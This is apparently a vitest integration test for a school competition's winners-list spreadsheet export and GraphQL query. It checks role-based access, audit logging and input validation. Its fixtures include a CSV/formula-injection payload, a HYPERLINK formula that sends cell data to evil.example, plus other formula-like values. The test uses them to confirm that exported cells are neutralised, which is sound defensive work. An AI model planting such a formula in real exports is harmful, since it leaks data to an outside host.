import { graphql } from '@qingmiao/schema/graphql';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { codeOf, dataOf } from '../support/graphql-http.ts';
import { startTestServer, type TestServer } from '../support/in-process-server.ts';

/**
 * The winners list over HTTP: `GET /reports/winners.xlsx` and GraphQL `winners`, against awards made here. Organizers
 * see every award with the participants' names; anyone else only published results, without names; every cell a
 * spreadsheet could run as a formula is neutralised; every download is in the access log.
 */

const YEAR = 2022;
const ESSAY = 'winners-essay-2022';
const SHOW = 'winners-show-2022';
/** A school named like a formula, as a hostile sheet imported by the office could name it. */
const FORMULA_SCHOOL = '=HYPERLINK("http://evil.example/?leak="&A1,"实验小学")';

const SCHOOLS = [
  { id: 'w-shiyan', name: '实验小学' },
  { id: 'w-evil', name: FORMULA_SCHOOL },
  { id: 'w-dongmen', name: '东门小学' },
];

interface Planned {
  readonly campaign: string;
  readonly school: string;
  readonly title: string;
  readonly advisor?: string;
  readonly children: readonly string[];
  readonly prize?: 'FIRST' | 'SECOND' | 'THIRD' | 'EXCELLENCE';
  readonly withdrawn?: boolean;
}

const PLAN: readonly Planned[] = [
  {
    campaign: ESSAY,
    school: 'w-shiyan',
    title: '我读《勋章》',
    advisor: '王老师',
    children: ['李明'],
    prize: 'SECOND',
  },
  {
    campaign: ESSAY,
    school: 'w-evil',
    title: '@SUM(1+1)',
    advisor: '-陈老师',
    children: ['=1+2', '赵强'],
    prize: 'FIRST',
  },
  { campaign: ESSAY, school: 'w-dongmen', title: '筑梦九天', children: ['孙悦'] },
  { campaign: ESSAY, school: 'w-dongmen', title: '童心向党', children: ['周杰'], prize: 'EXCELLENCE' },
  { campaign: SHOW, school: 'w-dongmen', title: '老少同台', advisor: '钱老', children: ['吴芳'], prize: 'THIRD' },
];

const WINNERS = graphql(`
  query Winners($year: Int!, $campaignId: ID) {
    winners(year: $year, campaignId: $campaignId) {
      entryId campaignId campaignTitle campaignKind campaignStatus prize title schoolId schoolName advisor
    }
  }
`);
const WINNERS_WITH_NAMES = graphql(`
  query WinnersWithNames($year: Int!) { winners(year: $year) { entryId participants { name role } } }
`);

let server: TestServer;
let organizer: string;
let viewer: string;
const entryIds = new Map<Planned, string>();

const download = (path: string, token: string | null) =>
  fetch(`${server.url}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });

/** The rows of the workbook's one sheet, header first, as text. */
async function sheetRows(response: Response): Promise<string[][]> {
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toContain('spreadsheetml');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await response.arrayBuffer());
  expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['获奖名单']);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  const rows: string[][] = [];
  sheet.eachRow((row) => {
    rows.push((row.values as unknown[]).slice(1).map((value) => (value === undefined ? '' : String(value))));
  });
  return rows;
}

const PRIZE = { FIRST: '一等奖', SECOND: '二等奖', THIRD: '三等奖', EXCELLENCE: '优秀奖' } as const;
const PRIZE_ORDER = ['FIRST', 'SECOND', 'THIRD', 'EXCELLENCE'] as const;
const CAMPAIGN_TITLES: Record<string, string> = { [ESSAY]: '《勋章》读书征文(征文)', [SHOW]: '老少同台展演(展演)' };
const neutral = (text: string) => (/^[=+\-@]/.test(text) ? `'${text}` : text);
const schoolName = (id: string) => SCHOOLS.find((school) => school.id === id)?.name ?? id;

/** The winners as the test planned them: by campaign (opening order), prize, school id, title. */
function expectedWinners(published: ReadonlySet<string> | 'all') {
  return PLAN.filter((entry) => entry.prize && !entry.withdrawn)
    .filter((entry) => published === 'all' || published.has(entry.campaign))
    .sort(
      (a, b) =>
        [ESSAY, SHOW].indexOf(a.campaign) - [ESSAY, SHOW].indexOf(b.campaign) ||
        PRIZE_ORDER.indexOf(a.prize ?? 'EXCELLENCE') - PRIZE_ORDER.indexOf(b.prize ?? 'EXCELLENCE') ||
        a.school.localeCompare(b.school) ||
        a.title.localeCompare(b.title),
    );
}

const expectedSheet = (published: ReadonlySet<string> | 'all', names: boolean) => [
  ['活动', '奖项', '作品标题', '学校', '指导老师', ...(names ? ['参赛人员'] : [])],
  ...expectedWinners(published).map((entry) => [
    CAMPAIGN_TITLES[entry.campaign] ?? '',
    PRIZE[entry.prize ?? 'FIRST'],
    neutral(entry.title),
    neutral(schoolName(entry.school)),
    neutral(entry.advisor ?? ''),
    ...(names ? [neutral(entry.children.join('、'))] : []),
  ]),
];

beforeAll(async () => {
  server = await startTestServer();
  organizer = await server.token('organizer', { sub: 'office-wang' });
  viewer = await server.token('viewer', { sub: 'leader-zhou' });
  const gql = async (query: string, i: Record<string, unknown>) =>
    dataOf(await server.graphql(query, { i }, organizer)) as Record<string, { id: string }>;
  for (const school of SCHOOLS) {
    await gql('mutation($i: RegisterSchoolInput!) { registerSchool(input: $i) { id } }', {
      ...school,
      kind: 'PRIMARY',
      town: '城厢镇',
    });
  }
  const campaigns = [
    { id: ESSAY, kind: 'ESSAY', title: '《勋章》读书征文', opensAt: '2022-03-01T00:00:00+08:00' },
    { id: SHOW, kind: 'PERFORMANCE', title: '老少同台展演', opensAt: '2022-04-01T00:00:00+08:00' },
  ];
  for (const campaign of campaigns) {
    await gql('mutation($i: CreateCampaignInput!) { createCampaign(input: $i) { id } }', {
      ...campaign,
      year: YEAR,
      closesAt: new Date(Date.now() + 86_400_000).toISOString(),
      awardQuota: 1,
    });
    await gql('mutation($i: OpenCampaignInput!) { openCampaign(input: $i) { id } }', { id: campaign.id });
  }
  let n = 0;
  for (const entry of PLAN) {
    n += 1;
    const { submitEntry } = await gql('mutation($i: SubmitEntryInput!) { submitEntry(input: $i) { id } }', {
      submissionId: `winners-${n}`,
      campaignId: entry.campaign,
      schoolId: entry.school,
      title: entry.title,
      ...(entry.advisor ? { advisor: entry.advisor } : {}),
      participants: entry.children.map((name) => ({ name, role: 'STUDENT', grade: '五年级' })),
      ...(entry.campaign === SHOW ? { performance: { genre: '合唱', durationMinutes: 5 } } : {}),
    });
    entryIds.set(entry, submitEntry?.id ?? '');
  }
  for (const campaign of campaigns) {
    await gql('mutation($i: CloseCampaignInput!) { closeCampaign(input: $i) { id } }', { id: campaign.id });
  }
  for (const entry of PLAN.filter((e) => e.prize)) {
    await gql('mutation($i: AwardEntryInput!) { awardEntry(input: $i) { id } }', {
      entryId: entryIds.get(entry),
      prize: entry.prize,
    });
  }
  // Awarded, then revoked: not a winner.
  const revoked = PLAN[2];
  if (!revoked) throw new Error('plan changed');
  await gql('mutation($i: AwardEntryInput!) { awardEntry(input: $i) { id } }', {
    entryId: entryIds.get(revoked),
    prize: 'THIRD',
  });
  await gql('mutation($i: RevokeAwardInput!) { revokeAward(input: $i) { id } }', {
    entryId: entryIds.get(revoked),
    reason: '复核',
  });
}, 60_000);

afterAll(async () => {
  await server?.stop();
});

describe('winners list', () => {
  it('gives organizers every award, with names, before publication; others nothing', async () => {
    expect(await sheetRows(await download(`/reports/winners.xlsx?year=${YEAR}`, organizer))).toEqual(
      expectedSheet('all', true),
    );
    expect(await sheetRows(await download(`/reports/winners.xlsx?year=${YEAR}`, viewer))).toEqual(
      expectedSheet(new Set(), false),
    );
    const school = await server.token('school', { schoolId: 'w-shiyan' });
    expect(await sheetRows(await download(`/reports/winners.xlsx?year=${YEAR}`, school))).toEqual(
      expectedSheet(new Set(), false),
    );

    const rows = dataOf(await server.graphql(WINNERS, { year: YEAR }, organizer)).winners;
    expect(rows.map((row) => row.entryId)).toEqual(expectedWinners('all').map((entry) => entryIds.get(entry)));
    expect(rows[0]).toEqual({
      entryId: entryIds.get(PLAN[1] as Planned),
      campaignId: ESSAY,
      campaignTitle: '《勋章》读书征文',
      campaignKind: 'ESSAY',
      campaignStatus: 'CLOSED',
      prize: 'FIRST',
      title: '@SUM(1+1)',
      schoolId: 'w-evil',
      schoolName: FORMULA_SCHOOL,
      advisor: '-陈老师',
    });
    expect(dataOf(await server.graphql(WINNERS, { year: YEAR }, viewer)).winners).toEqual([]);
    const named = dataOf(await server.graphql(WINNERS_WITH_NAMES, { year: YEAR }, organizer)).winners;
    expect(named[0]?.participants).toEqual([
      { name: '=1+2', role: 'STUDENT' },
      { name: '赵强', role: 'STUDENT' },
    ]);
  });

  it('neutralises every text cell a spreadsheet would run as a formula', async () => {
    const response = await download(`/reports/winners.xlsx?year=${YEAR}&campaignId=${ESSAY}`, organizer);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    const first = sheet.getRow(2);
    expect([3, 4, 5, 6].map((column) => first.getCell(column).value)).toEqual([
      "'@SUM(1+1)",
      `'${FORMULA_SCHOOL}`,
      "'-陈老师",
      "'=1+2、赵强",
    ]);
    // Nothing in the sheet is a formula.
    sheet.eachRow((row) => {
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
    });
  });

  it('shows published campaigns to everyone, without names to anyone but organizers', async () => {
    const school = await server.token('school', { schoolId: 'w-dongmen' });
    dataOf(
      await server.graphql(
        'mutation($i: PublishResultsInput!) { publishResults(input: $i) { id } }',
        { i: { id: ESSAY } },
        organizer,
      ),
    );
    const published = new Set([ESSAY]);
    for (const token of [viewer, school]) {
      expect(await sheetRows(await download(`/reports/winners.xlsx?year=${YEAR}`, token))).toEqual(
        expectedSheet(published, false),
      );
    }
    expect(await sheetRows(await download(`/reports/winners.xlsx?year=${YEAR}&campaignId=${SHOW}`, viewer))).toEqual([
      expectedSheet(published, false)[0],
    ]);
    expect(await sheetRows(await download(`/reports/winners.xlsx?year=${YEAR}`, organizer))).toEqual(
      expectedSheet('all', true),
    );
    const seen = dataOf(await server.graphql(WINNERS, { year: YEAR }, viewer)).winners;
    expect(seen.map((row) => [row.entryId, row.campaignStatus])).toEqual(
      expectedWinners(published).map((entry) => [entryIds.get(entry), 'RESULTS_PUBLISHED']),
    );
    expect(codeOf(await server.graphql(WINNERS_WITH_NAMES, { year: YEAR }, viewer))).toBe('FORBIDDEN');
    expect(codeOf(await server.graphql(WINNERS_WITH_NAMES, { year: YEAR }, school))).toBe('FORBIDDEN');
  });

  it('records every download in the access log', async () => {
    const exporter = await server.token('viewer', { sub: 'leader-exporter' });
    (await download(`/reports/winners.xlsx?year=${YEAR}`, exporter)).body?.cancel();
    const log = dataOf(
      await server.graphql(
        graphql(`query WinnersLog($from: DateTime!, $to: DateTime!, $actor: String) {
          accessLog(from: $from, to: $to, actor: $actor) { actor role action subject }
        }`),
        {
          from: new Date(Date.now() - 3_600_000).toISOString(),
          to: new Date(Date.now() + 3_600_000).toISOString(),
          actor: 'leader-exporter',
        },
        organizer,
      ),
    ).accessLog;
    expect(log).toEqual([
      { actor: 'leader-exporter', role: 'viewer', action: 'EXPORT', subject: '/reports/winners.xlsx' },
    ]);
  });

  it('needs a token and names a bad parameter', async () => {
    expect((await download(`/reports/winners.xlsx?year=${YEAR}`, null)).status).toBe(401);
    const badYear = await download('/reports/winners.xlsx?year=1800', organizer);
    expect(badYear.status).toBe(400);
    expect(await badYear.json()).toMatchObject({ error: { code: 'BAD_USER_INPUT', field: 'year' } });
    const badCampaign = await download(`/reports/winners.xlsx?year=${YEAR}&campaignId=Not%20An%20Id`, organizer);
    expect(badCampaign.status).toBe(400);
    expect(await badCampaign.json()).toMatchObject({ error: { code: 'BAD_USER_INPUT', field: 'campaignId' } });
    const bad = await server.graphql(WINNERS, { year: 1800 }, organizer);
    expect(codeOf(bad)).toBe('BAD_USER_INPUT');
    expect(bad.errors?.[0]?.extensions?.field).toBe('year');
    const badId = await server.graphql(WINNERS, { year: YEAR, campaignId: 'Not An Id' }, organizer);
    expect(badId.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'campaignId' });
  });
});
